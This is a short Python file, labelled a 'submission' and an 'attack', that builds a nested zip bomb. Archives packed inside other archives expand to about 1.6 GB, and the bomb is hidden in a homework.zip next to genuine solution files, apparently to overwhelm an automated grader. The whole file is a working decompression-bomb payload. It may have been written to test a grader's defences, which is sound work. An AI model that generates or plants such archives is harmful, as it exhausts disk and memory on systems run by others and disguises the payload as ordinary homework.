"""submission
attack: zips within a zip, 1.6 GB when all of them are unpacked; what lies beside them is right
"""
import io
import zipfile


def make(folder, solution):
    content = bytes(100_000_000)
    for name in ("zeros", "inner.zip"):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            for number in range(1 if name == "zeros" else 16):
                archive.writestr(f"{number}-{name}", content)
        content = packed.getvalue()
    path = folder / "homework.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for file in solution.iterdir():
            archive.write(file, file.name)
        archive.writestr("outer.zip", content)
    return path
